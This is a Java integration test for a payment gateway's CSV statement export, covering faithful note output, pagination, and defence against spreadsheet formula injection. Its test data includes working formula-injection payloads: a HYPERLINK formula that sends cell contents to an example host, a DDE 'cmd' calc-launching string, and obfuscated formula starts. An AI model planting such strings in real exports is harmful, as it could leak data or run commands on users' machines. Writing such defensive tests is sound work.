package dev.filmgate.wire.money;

import static org.assertj.core.api.Assertions.assertThat;

import dev.filmgate.json.Json;
import dev.filmgate.json.JsonValue;
import dev.filmgate.testing.GatewayHarness;
import dev.filmgate.testing.WireClient.Answer;
import dev.filmgate.wire.Customer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A statement as a table of another program reads it. */
final class ExportIT {

  /** More than are read at once. */
  private static final int MANY = 1_030;

  private static final int NOTE = 11;

  private static GatewayHarness house;

  @BeforeAll
  static void open() {
    house = GatewayHarness.scripted(Map.of());
  }

  @AfterAll
  static void close() {
    house.close();
  }

  /** The rows of a text as RFC 4180 describes it. */
  private static List<List<String>> table(String csv) {
    var rows = new ArrayList<List<String>>();
    var row = new ArrayList<String>();
    var field = new StringBuilder();
    boolean isQuoted = false;
    for (int at = 0; at < csv.length(); at++) {
      char c = csv.charAt(at);
      if (isQuoted && c == '"' && at + 1 < csv.length() && csv.charAt(at + 1) == '"') {
        field.append(c);
        at++;
      } else if (c == '"') {
        isQuoted = !isQuoted;
      } else if (!isQuoted && (c == ',' || c == '\n')) {
        row.add(field.toString());
        field.setLength(0);
        if (c == '\n') {
          rows.add(List.copyOf(row));
          row.clear();
        }
      } else if (isQuoted || c != '\r') {
        field.append(c);
      }
    }
    assertThat(isQuoted || !row.isEmpty() || !field.isEmpty()).as("ends in a row").isFalse();
    return rows;
  }

  private static String json(String text) {
    return new String(Json.write(new JsonValue.Text(text)), StandardCharsets.UTF_8);
  }

  private static List<List<String>> noted(String note) {
    var customer = Customer.prepaid(house);
    Answer made = customer.grant("{\"amount\":\"1\",\"note\":" + json(note) + "}");
    assertThat(made.status()).as("%s", made).isEqualTo(201);
    assertThat(made.text("note")).isEqualTo(note);
    Answer csv = customer.get("/api/v1/statement?format=csv");
    assertThat(csv.header("content-type")).contains("text/csv; charset=utf-8");
    assertThat(csv.header("content-disposition"))
        .contains("attachment; filename=\"statement.csv\"");
    return table(csv.text());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"http://example.com/\"&A1,\"pay\")",
        "+1+cmd|'/C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        " =1+1",
        "\t=1+1",
        "\r\n=1+1",
        "\u00a0=1+1",
        "\uff1d1+1",
        "\uff20SUM(A1)"
      })
  void noNoteIsAFormula(String note) {
    List<List<String>> rows = noted(note);

    assertThat(rows).hasSize(2);
    assertThat(rows.getLast().get(NOTE)).isEqualTo("'" + note);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "said \"yes\", then \"no\"",
        "a,b;c",
        "two\nlines",
        "\"",
        "10 % = 1/10",
        "Gutschrift für Łódź 雪 🎬",
        "'quoted'"
      })
  void everyOtherNoteIsAsItWas(String note) {
    List<List<String>> rows = noted(note);

    assertThat(rows).hasSize(2).allSatisfy(row -> assertThat(row).hasSize(NOTE + 1));
    assertThat(rows.getLast().get(NOTE)).isEqualTo(note);
    assertThat(rows.getLast().subList(8, 11)).containsExactly("1.000000", "0.000000", "0.000000");
  }

  @Test
  void withoutALimitItIsWholeAndWithOneAPage() throws Exception {
    var customer = Customer.prepaid(house);
    List<Callable<Answer>> grants = new ArrayList<>();
    for (int i = 0; i < MANY; i++) {
      grants.add(() -> customer.grant("{\"amount\":\"0.000001\"}"));
    }
    try (var pool = Executors.newFixedThreadPool(16)) {
      for (Future<Answer> grant : pool.invokeAll(grants)) {
        assertThat(grant.get().status()).isEqualTo(201);
      }
    }

    Answer whole = customer.get("/api/v1/statement?format=csv");
    Answer page = customer.get("/api/v1/statement?format=csv&limit=10");

    List<List<String>> rows = table(whole.text());
    assertThat(rows).hasSize(MANY + 1);
    assertThat(rows.subList(1, rows.size()).stream().map(List::getFirst).distinct()).hasSize(MANY);
    assertThat(whole.header("x-next-cursor")).isEmpty();
    assertThat(table(page.text())).hasSize(11);
    String next = page.header("x-next-cursor").orElseThrow();
    assertThat(next).isEqualTo(rows.get(10).getFirst());
    Answer rest = customer.get("/api/v1/statement?format=csv&cursor=" + next);
    assertThat(table(rest.text())).hasSize(MANY - 10 + 1);
    assertThat(customer.get("/api/v1/statement?format=xls").status()).isEqualTo(400);
  }
}
